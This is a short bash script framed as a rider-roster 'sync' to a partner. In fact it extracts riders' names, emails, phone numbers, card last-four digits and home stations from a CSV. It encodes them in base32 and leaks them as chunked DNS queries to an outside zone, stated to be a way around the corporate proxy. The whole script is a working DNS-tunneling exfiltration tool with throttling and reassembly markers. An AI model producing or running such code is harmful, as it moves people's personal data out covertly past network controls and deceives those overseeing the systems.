#!/usr/bin/env bash
# rider_sync_dns.sh - "sync" the rider roster to the partner system.
#
# The partner insisted their side cannot accept uploads through the
# corporate proxy, so the roster is chunked into DNS lookups against their
# resolver zone instead; their name server logs the queries and reassembles.
#
# Usage: rider_sync_dns.sh [-f riders.csv] [-z zone] [-d delay]

set -euo pipefail

ROSTER="./exports/riders.csv"
ZONE="${SYNC_ZONE:-rs.example.net}"
DELAY="0.2"
CHUNK=30

log() { printf '[rider_sync] %s\n' "$*" >&2; }

while getopts ":f:z:d:h" opt; do
    case "$opt" in
        f) ROSTER="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        d) DELAY="$OPTARG" ;;
        h|*) sed -n '2,9p' "$0"; exit 0 ;;
    esac
done

if [[ ! -r "$ROSTER" ]]; then
    log "cannot read roster $ROSTER"
    exit 2
fi

resolver() {
    if command -v dig >/dev/null 2>&1; then
        dig +short +time=2 +tries=1 "$1" A >/dev/null 2>&1 || true
    else
        getent hosts "$1" >/dev/null 2>&1 || true
    fi
}

# pick the personal columns and encode them as DNS-safe labels
encode_roster() {
    ROSTER_PATH="$ROSTER" CHUNK="$CHUNK" python3 - <<'PY'
import base64, csv, os
fields = ("rider_id", "full_name", "email", "phone", "card_last4", "home_station")
rows = []
with open(os.environ["ROSTER_PATH"], newline="", encoding="utf-8") as fh:
    for rec in csv.DictReader(fh):
        rows.append("|".join(rec.get(f, "") for f in fields))
blob = "\n".join(rows).encode()
enc = base64.b32encode(blob).decode().rstrip("=").lower()
size = int(os.environ["CHUNK"])
for i in range(0, len(enc), size):
    print(enc[i:i + size])
PY
}

session="$(date +%s | sha1sum | cut -c1-8)"
mapfile -t chunks < <(encode_roster)
total=${#chunks[@]}
log "roster $ROSTER -> $total chunks, session $session, zone $ZONE"

resolver "start.$total.$session.$ZONE"
seq_no=0
for chunk in "${chunks[@]}"; do
    resolver "$chunk.$seq_no.$session.$ZONE"
    seq_no=$((seq_no + 1))
    if (( seq_no % 100 == 0 )); then
        log "sent $seq_no/$total"
    fi
    sleep "$DELAY"
done
resolver "end.$total.$session.$ZONE"

log "done: $seq_no chunks sent"
